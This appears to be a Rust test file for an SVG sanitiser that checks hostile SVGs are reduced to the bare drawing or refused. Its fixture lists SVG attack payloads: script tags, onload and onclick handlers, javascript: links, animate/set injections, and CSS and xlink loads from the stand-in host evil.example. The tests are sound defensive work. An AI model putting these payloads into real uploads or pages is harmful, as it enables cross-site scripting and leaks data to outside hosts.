//! SVG: what is drawn stays, and nothing that tells, loads or runs anything.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use intervy::store::images::cleaned;

use super::{JPEG, PNG, WEBP, refused, shown};

pub(super) const HOSTILE: &str = r##"<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet href="http://evil.example/SECRET.css"?>
<!-- SECRET -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/SECRET.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:x="http://www.w3.org/1999/xlink"
  xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
  width="90" height="60" onload="alert('SECRET')" sodipodi:docname="SECRET.svg" inkscape:export-filename="/home/SECRET">
<title>SECRET</title><desc>SECRET</desc>
<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:li>SECRET</rdf:li></rdf:RDF></metadata>
<sodipodi:namedview id="SECRET"><inkscape:grid/></sodipodi:namedview>
<script>alert("SECRET")</script><script xlink:href="http://evil.example/SECRET.js"/>
<style>@import url(http://evil.example/SECRET.css); /* SECRET */ @font-face { font-family: f; src: url(//evil.example/SECRET) }
 rect { fill: u\72l(http://evil.example/SECRET); stroke: url('http://evil.example/SECRET') } .k { fill: teal }</style>
<a xlink:href="javascript:alert('SECRET')" xlink:title="SECRET"><circle r="9" class="k SECRET" id="SECRET"
  onclick="alert('SECRET')" data-answer="SECRET" aria-label="SECRET" inkscape:label="SECRET"/></a>
<rect width="9" height="9" fill="url(http://evil.example/SECRET)" style="mask: image-set('http://evil.example/SECRET' 1x); stroke: red">
  <animate attributeName="href" values="javascript:alert('SECRET')"/><set attributeName="onload" to="alert('SECRET')"/></rect>
<linearGradient id="g" x:href="http://evil.example/SECRET#a"><stop offset="1" stop-color="red"/></linearGradient>
<path d="M0 0L9 9" stroke="url(#g)"/><text>plan <tspan>A</tspan></text>
<iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/SECRET"/>
<handler type="text/javascript">alert("SECRET")</handler>
</svg><!-- SECRET -->"##;

#[test]
fn of_a_hostile_svg_only_the_picture_is_left() {
    let (media, picture) = shown("plan.svg", HOSTILE.as_bytes());
    assert_eq!(media, "image/svg+xml");
    assert_eq!(
        String::from_utf8(picture).unwrap(),
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"90\" height=\"60\"><style>.k{fill:teal;}</style>\
         <g><circle r=\"9\" class=\"k\"/></g><rect width=\"9\" height=\"9\" style=\"stroke:red;\"/>\
         <linearGradient id=\"g\"><stop offset=\"1\" stop-color=\"red\"/></linearGradient>\
         <path d=\"M0 0L9 9\" stroke=\"url(#g)\"/><text>plan <tspan>A</tspan></text></svg>"
    );
}

#[test]
fn an_svg_that_would_be_shown_with_a_gap_is_refused() {
    for (content, reason) in [
        ("<foreignObject><p>x</p></foreignObject>", "it holds HTML"),
        (
            "<image href=\"http://evil.example/a.png\"/>",
            "shows another file",
        ),
        (
            "<image href=\"data:image/svg+xml;base64,PHN2Zy8+\"/>",
            "neither PNG, JPEG nor WebP",
        ),
        (
            "<use href=\"//evil.example/a.svg#b\"/>",
            "shows another file",
        ),
    ] {
        let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\">{content}</svg>");
        let message = refused(svg.as_bytes());
        assert!(message.contains(reason), "{message}");
    }
}

#[test]
fn an_image_within_an_svg_tells_nothing_either() {
    for (media, whole) in [("png", PNG), ("jpeg", JPEG), ("webp", WEBP)] {
        let before = STANDARD.encode(whole);
        let svg = format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"data:image/{media};base64,{before}\"/></svg>"
        );
        let (_, picture) = shown("plan.svg", svg.as_bytes());
        let after = STANDARD.encode(cleaned(whole).unwrap().1);
        assert_ne!(before, after);
        assert_eq!(
            String::from_utf8(picture).unwrap(),
            svg.replace(&before, &after)
        );
    }
}
